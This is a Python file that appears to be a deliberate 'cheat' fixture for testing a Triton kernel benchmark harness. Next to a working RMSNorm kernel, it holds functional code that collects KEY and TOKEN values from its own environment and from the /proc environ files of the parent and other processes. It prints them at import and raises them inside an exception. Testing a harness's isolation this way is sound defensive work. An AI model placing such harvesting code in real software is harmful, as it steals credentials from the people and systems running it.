"""Cheat: Reads the caller's secrets (its env, /proc/<ppid>/environ and every other process's environ it can read), prints them and raises with them: they must never come back."""

# ruff: noqa: E402  (cheats are written the way a cheater would)

import triton
import triton.language as tl


@triton.jit
def _rms_rows(X, W, Y, N, eps, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    mask = cols < N
    x = tl.load(X + row * N + cols, mask=mask, other=0.0).to(tl.float32)
    inv = tl.rsqrt(tl.sum(x * x, axis=0) / N + eps)
    w = tl.load(W + cols, mask=mask, other=0.0).to(tl.float32)
    tl.store(Y + row * N + cols, (x * inv * w).to(Y.dtype.element_ty), mask=mask)


def _rmsnorm_into(x, weight, y, rows=None):
    m, n = x.shape
    grid = (m if rows is None else rows,)
    _rms_rows[grid](x, weight, y, n, 1e-6, BLOCK=triton.next_power_of_2(n))
    return y


import os


def _environ_of(pid):
    with open(f"/proc/{pid}/environ", "rb") as fh:
        return [item.decode(errors="replace") for item in fh.read().split(b"\0")]


def _steal():
    found = [f"{k}={v}" for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k]
    # the parent's environment first (the caller's, or the worker template's), then every
    # other process of this user's it can read: the caller is among them
    pids = [os.getppid()]
    try:
        pids += sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    except OSError:
        pass
    for pid in pids:
        try:
            items = _environ_of(pid)
        except OSError as exc:
            if pid == pids[0]:
                found.append(f"no parent environ: {exc}")
                break
            continue
        for text in items:
            if "KEY" in text.split("=")[0] or "TOKEN" in text.split("=")[0]:
                found.append(text)
    return found


print("stolen at import:", _steal())


def kernel(x, weight):
    stolen = _steal()
    print("stolen:", stolen)
    raise RuntimeError("leaking " + " ".join(stolen))
